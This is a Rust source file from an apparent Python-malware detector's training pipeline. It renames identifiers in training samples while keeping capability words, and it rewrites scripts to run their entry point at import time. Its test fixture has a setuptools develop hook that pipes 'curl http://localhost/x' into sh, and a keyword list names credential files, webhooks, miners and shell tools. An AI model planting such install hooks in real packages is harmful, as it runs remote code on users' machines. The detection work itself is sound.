//! Renamed variants of the hand-written training samples (training only, never evaluated).
//!
//! The hand-written benign look-alikes and defanged malicious samples are few, and each is
//! unlike the others: a linear model over n-grams fits every training sample through its own
//! names and strings (`compile_translations`, `"msgfmt"`, `myapp`) and learns nothing that
//! carries over to a look-alike it has not seen. Variants of a sample keep what the code does
//! and change what it happens to be called: local names (functions, classes, variables,
//! parameters) and the words inside string literals are replaced, consistently within a
//! variant, by words drawn at random. Kept are keywords, builtins, dunder names, everything on
//! an `import`/`from` line, attributes (`subprocess.check_call`, `.decode`), keyword-argument
//! names (`cmdclass=`, `shell=`), comments' absence, string prefixes and quotes, the shape of
//! strings (a URL stays a URL, a path a path, numbers and punctuation stay) and the words the
//! model knows as signs of a capability (`curl`, `powershell`, `bashrc`, `webhook`, ...). A
//! deterministic generator: the same seed gives the same variants.

use std::collections::{HashMap, HashSet};

use crate::synth::{Rng, SYL, WORDS};

const KEYWORDS: &[&str] = &[
    "False", "None", "True", "and", "as", "assert", "async", "await", "break", "class", "continue", "def", "del",
    "elif", "else", "except", "finally", "for", "from", "global", "if", "import", "in", "is", "lambda", "nonlocal",
    "not", "or", "pass", "raise", "return", "try", "while", "with", "yield", "match", "case", "self", "cls",
];

const BUILTINS: &[&str] = &[
    "abs", "all", "any", "ascii", "bin", "bool", "breakpoint", "bytearray", "bytes", "callable", "chr", "classmethod",
    "compile", "complex", "delattr", "dict", "dir", "divmod", "enumerate", "eval", "exec", "filter", "float", "format",
    "frozenset", "getattr", "globals", "hasattr", "hash", "help", "hex", "id", "input", "int", "isinstance",
    "issubclass", "iter", "len", "list", "locals", "map", "max", "memoryview", "min", "next", "object", "oct", "open",
    "ord", "pow", "print", "property", "range", "repr", "reversed", "round", "set", "setattr", "slice", "sorted",
    "staticmethod", "str", "sum", "super", "tuple", "type", "vars", "zip", "Exception", "BaseException", "OSError",
    "IOError", "ValueError", "KeyError", "TypeError", "RuntimeError", "ImportError", "SystemExit",
    "KeyboardInterrupt", "FileNotFoundError", "PermissionError", "ConnectionError", "TimeoutError", "StopIteration",
    "NotImplementedError", "AttributeError", "IndexError", "UnicodeDecodeError", "exit", "quit",
];

/// Conventional names that frameworks call by name (a setuptools command's `run`, a handler's
/// `handle`, a script's `main`): kept, like the API they belong to.
const KEEP_NAMES: &[&str] = &[
    "main", "run", "setup", "install", "build", "develop", "handle", "start", "stop", "connect", "send", "recv",
    "close", "read", "write", "get", "post", "put", "delete", "execute", "initialize_options", "finalize_options",
    "setUp", "tearDown", "args", "kwargs", "app", "logger", "log", "parser",
];

/// Words inside strings that name a capability or a place malware goes: never replaced, so a
/// variant says the same about what it runs, fetches or writes.
const KEEP_STRING_WORDS: &[&str] = &[
    "sh", "bash", "zsh", "cmd", "exe", "powershell", "curl", "wget", "chmod", "crontab", "cron", "systemd", "service",
    "bashrc", "profile", "zshrc", "tmp", "dev", "tcp", "udp", "bin", "usr", "etc", "passwd", "shadow", "ssh",
    "id_rsa", "aws", "credentials", "token", "password", "secret", "key", "webhook", "webhooks", "discord", "telegram",
    "api", "http", "https", "ftp", "ws", "wss", "python", "python3", "pip", "exec", "eval", "base64", "socket",
    "subprocess", "pty", "nc", "ncat", "socat", "root", "home", "var", "proc", "environ", "env", "login", "cookies",
    "leveldb", "appdata", "startup", "run", "install", "setup", "upload", "post", "get", "localhost", "onion", "pastebin",
    "ngrok", "miner", "xmrig", "stratum", "pool", "wallet", "decode", "encode", "utf", "ascii", "latin",
];

/// `n` renamed variants of `code`.
pub fn variants(code: &[u8], n: usize, seed: u64) -> Vec<Vec<u8>> {
    let text = String::from_utf8_lossy(code);
    let imported = imported_names(&text);
    (0..n).map(|k| one(&text, &imported, seed ^ (k as u64 + 1).wrapping_mul(0x9e37_79b9_7f4a_7c15)).into_bytes()).collect()
}

/// An `import` or `from` statement starts `s` (after indentation).
fn is_import(s: &str) -> bool {
    let s = s.trim_start_matches([' ', '\t']);
    s.starts_with("import ") || s.starts_with("from ")
}

/// Every identifier of an `import` or `from` statement.
fn imported_names(text: &str) -> HashSet<String> {
    let mut out = HashSet::new();
    for stmt in text.split(['\n', ';']) {
        if is_import(stmt) {
            for w in stmt.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_')) {
                if !w.is_empty() {
                    out.insert(w.to_string());
                }
            }
        }
    }
    out
}

fn fresh(r: &mut Rng, used: &mut HashSet<String>, pool: &[&str]) -> String {
    loop {
        let parts = 1 + r.below(2);
        let w: Vec<&str> = (0..parts).map(|_| pool[r.below(pool.len())]).collect();
        let s = w.join("_");
        if !KEYWORDS.contains(&s.as_str()) && !BUILTINS.contains(&s.as_str()) && used.insert(s.clone()) {
            return s;
        }
    }
}

fn one(text: &str, imported: &HashSet<String>, seed: u64) -> String {
    let mut r = Rng(seed);
    let mut names: HashMap<String, String> = HashMap::new();
    let mut words: HashMap<String, String> = HashMap::new();
    let mut used: HashSet<String> = HashSet::new();
    let b = text.as_bytes();
    let mut out = String::with_capacity(text.len());
    let mut i = 0;
    let mut depth = 0i32;
    // at the start of a line (or after an import's `;`): an `import`/`from` statement is copied whole
    let mut line_start = true;
    while i < b.len() {
        let c = b[i];
        if line_start {
            let rest = &text[i..];
            if is_import(rest) {
                // up to the end of the statement: `import os; os.system(…)` keeps only the import
                let end = rest.find(['\n', ';']).map_or(rest.len(), |e| e + 1);
                out.push_str(&rest[..end]);
                i += end;
                continue;
            }
        }
        line_start = c == b'\n';
        match c {
            b'#' => {
                // comments carry no feature: dropped
                while i < b.len() && b[i] != b'\n' {
                    i += 1;
                }
            }
            b'"' | b'\'' => {
                let (lit, end) = string_literal(text, i);
                out.push_str(&rewrite_string(lit, &mut r, &mut words, &mut used));
                i = end;
            }
            b'(' | b'[' | b'{' => {
                depth += 1;
                out.push(c as char);
                i += 1;
            }
            b')' | b']' | b'}' => {
                depth -= 1;
                out.push(c as char);
                i += 1;
            }
            c if c.is_ascii_alphabetic() || c == b'_' || c >= 0x80 => {
                let start = i;
                while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_' || b[i] >= 0x80) {
                    i += 1;
                }
                while !text.is_char_boundary(i) {
                    i += 1;
                }
                let id = &text[start..i];
                // a string prefix (r"…", b'…', f"…")
                if i < b.len() && (b[i] == b'"' || b[i] == b'\'') && id.len() <= 2 && id.chars().all(|c| "rRbBfFuU".contains(c)) {
                    out.push_str(id);
                    continue;
                }
                let attr = out.trim_end().ends_with('.');
                let kwarg = depth > 0 && {
                    let after = text[i..].trim_start_matches([' ', '\t']);
                    after.starts_with('=') && !after.starts_with("==")
                };
                let keep = attr
                    || kwarg
                    || (id.starts_with("__") && id.ends_with("__"))
                    || KEYWORDS.contains(&id)
                    || BUILTINS.contains(&id)
                    || KEEP_NAMES.contains(&id)
                    || imported.contains(id)
                    || !id.is_ascii();
                if keep {
                    out.push_str(id);
                } else {
                    let new = names.entry(id.to_string()).or_insert_with(|| fresh(&mut r, &mut used, SYL)).clone();
                    out.push_str(&new);
                }
            }
            _ => {
                let ch = text[i..].chars().next().unwrap_or(' ');
                out.push(ch);
                i += ch.len_utf8();
            }
        }
    }
    out
}

/// The string literal starting at `i` (a quote) and the index after it.
fn string_literal(text: &str, i: usize) -> (&str, usize) {
    let b = text.as_bytes();
    let q = b[i];
    let triple = i + 2 < b.len() && b[i + 1] == q && b[i + 2] == q;
    let mut j = if triple { i + 3 } else { i + 1 };
    while j < b.len() {
        if b[j] == b'\\' {
            j += 2;
            continue;
        }
        if triple {
            if b[j] == q && b.get(j + 1) == Some(&q) && b.get(j + 2) == Some(&q) {
                j += 3;
                break;
            }
        } else if b[j] == q || b[j] == b'\n' {
            j += 1;
            break;
        }
        j += 1;
    }
    let mut end = j.min(b.len());
    while !text.is_char_boundary(end) {
        end += 1;
    }
    (&text[i..end], end)
}

/// A string literal with each word of three or more letters replaced, unless it names a capability.
fn rewrite_string(lit: &str, r: &mut Rng, words: &mut HashMap<String, String>, used: &mut HashSet<String>) -> String {
    let mut out = String::with_capacity(lit.len());
    let mut word = String::new();
    let mut flush = |word: &mut String, out: &mut String, r: &mut Rng| {
        if word.len() >= 3 && !KEEP_STRING_WORDS.contains(&word.to_ascii_lowercase().as_str()) {
            let new = words.entry(word.clone()).or_insert_with(|| fresh(r, used, WORDS).replace('_', "-")).clone();
            out.push_str(&new);
        } else {
            out.push_str(word);
        }
        word.clear();
    };
    let mut escape = false;
    for ch in lit.chars() {
        if escape {
            // an escape sequence (`\n`, `\x41`) is kept as written
            escape = false;
            out.push(ch);
            continue;
        }
        if ch.is_ascii_alphabetic() {
            word.push(ch);
        } else {
            flush(&mut word, &mut out, r);
            if ch == '\\' {
                escape = true;
            }
            out.push(ch);
        }
    }
    flush(&mut word, &mut out, r);
    out
}

/// The script with its entry point run at import time: the body of a module-level
/// `def main(…)` (no required parameters, no decorator) moved out of the function, dedented, in
/// place of the `if __name__ == "__main__":` block that called it. Ordinary scripts in containers
/// are often written this way, while the training corpus's libraries and tools almost always run
/// under the guard; without such variants "a sink at import time" is learnt as a sign of a
/// payload instead of the flows that reach it. `None` when the code has no such shape.
pub fn unguarded(code: &[u8]) -> Option<Vec<u8>> {
    let text = std::str::from_utf8(code).ok()?;
    let lines: Vec<&str> = text.lines().collect();
    let top = |l: &str| !l.starts_with([' ', '\t', '#']) && !l.trim().is_empty();
    // the block of a column-0 statement at `i`: up to the next column-0 statement
    let block_end = |i: usize| (i + 1..lines.len()).find(|&k| top(lines[k])).unwrap_or(lines.len());
    let guard = lines.iter().position(|l| {
        l.starts_with("if ") && l.contains("__name__") && l.contains("__main__") && l.trim_end().ends_with(':')
    })?;
    let guard_end = block_end(guard);
    let calls_main = |l: &str| {
        l.match_indices("main(").any(|(k, _)| !l[..k].ends_with(|c: char| c == '.' || c == '_' || c.is_alphanumeric()))
    };
    if !lines[guard + 1..guard_end].iter().any(|l| calls_main(l)) {
        return None;
    }
    let def = lines.iter().position(|l| l.starts_with("def main(") && l.trim_end().ends_with(':'))?;
    if def > guard || (def > 0 && lines[def - 1].starts_with('@')) {
        return None;
    }
    let params = lines[def].strip_prefix("def main(")?.split(')').next()?;
    if !params.split(',').map(str::trim).all(|p| p.is_empty() || p.contains('=') || p.starts_with('*')) {
        return None;
    }
    let def_end = block_end(def);
    let body = &lines[def + 1..def_end];
    let first = body.iter().find(|l| !l.trim().is_empty() && !l.trim_start().starts_with('#'))?;
    let indent = &first[..first.len() - first.trim_start().len()];
    if indent.is_empty() {
        return None;
    }
    let mut out = String::with_capacity(text.len());
    for l in lines[..def].iter().chain(&lines[def_end..guard]) {
        out.push_str(l);
        out.push('\n');
    }
    for l in body {
        out.push_str(l.strip_prefix(indent).unwrap_or(l));
        out.push('\n');
    }
    for l in &lines[guard_end..] {
        out.push_str(l);
        out.push('\n');
    }
    Some(out.into_bytes())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn variants_keep_what_the_code_does_and_rename_the_rest() {
        let code = br#"import os, subprocess
from setuptools.command.develop import develop

def compile_translations(locale_dir):
    # compile
    subprocess.check_call(["msgfmt", "-o", locale_dir + ".mo"], shell=False)

class Develop(develop):
    def run(self):
        compile_translations("myapp/locale")
        os.system("curl http://localhost/x | sh")
"#;
        let v = variants(code, 2, 7);
        assert_eq!(v.len(), 2);
        let a = String::from_utf8(v[0].clone()).unwrap();
        assert_ne!(v[0], v[1]);
        assert!(a.starts_with("import os, subprocess\nfrom setuptools.command.develop import develop\n"), "{a}");
        assert!(a.contains("subprocess.check_call(["), "{a}");
        assert!(a.contains("shell=False"), "{a}");
        assert!(a.contains("(develop):"), "{a}");
        assert!(a.contains("def run(self):"), "{a}");
        assert!(a.contains("\"curl http://localhost/"), "{a}");
        assert!(a.contains("| sh\""), "{a}");
        for gone in ["compile_translations", "locale_dir", "msgfmt", "myapp", "Develop(", "# compile"] {
            assert!(!a.contains(gone), "{gone} kept in {a}");
        }
        // consistent within a variant: the two calls of the renamed function agree
        let def = a.lines().find(|l| l.starts_with("def ")).unwrap();
        let fname = &def[4..def.find('(').unwrap()];
        assert_eq!(a.matches(fname).count(), 2, "{a}");
        assert_eq!(variants(code, 2, 7), v, "deterministic");
        // a one-liner: the import statement is kept, the rest of the line is rewritten
        let one = String::from_utf8(variants(b"import sys; total = sum(int(x) for x in sys.argv[1:]); print(total)", 1, 3).remove(0)).unwrap();
        assert!(one.starts_with("import sys; "), "{one}");
        assert!(one.contains("sys.argv[1:]") && one.contains("print(") && !one.contains("total"), "{one}");
    }

    #[test]
    fn unguarded_runs_the_entry_point_at_import_time() {
        let code = b"import subprocess\n\n\ndef helper(x):\n    return x\n\n\ndef main(argv=None):\n    \"\"\"Run.\"\"\"\n    subprocess.check_call([\"make\"])\n    if argv:\n        print(argv)\n\n\nif __name__ == \"__main__\":\n    main()\n";
        let u = String::from_utf8(unguarded(code).unwrap()).unwrap();
        assert_eq!(
            u,
            "import subprocess\n\n\ndef helper(x):\n    return x\n\n\n\"\"\"Run.\"\"\"\nsubprocess.check_call([\"make\"])\nif argv:\n    print(argv)\n\n\n"
        );
        let facts = python_model::behaviour::behaviours(u.as_bytes());
        assert!(facts.iter().any(|f| f.starts_with("toplevel")), "{facts:?}");
        // no guard, a decorated or parameterised main, or a guard that does not call main: unchanged shape
        assert!(unguarded(b"def main():\n    pass\n").is_none());
        assert!(unguarded(b"@click.command()\ndef main():\n    pass\n\nif __name__ == '__main__':\n    main()\n").is_none());
        assert!(unguarded(b"def main(path):\n    pass\n\nif __name__ == '__main__':\n    main(1)\n").is_none());
        assert!(unguarded(b"def main():\n    pass\n\nif __name__ == '__main__':\n    unittest.main()\n").is_none());
        assert!(unguarded(b"def main():\n    pass\n\nif __name__ == '__main__':\n    sys.exit(main())\n").is_some());
        assert!(unguarded(b"def main():\n    pass\n\nif __name__ == '__main__':\n    run()\n").is_none());
    }
}
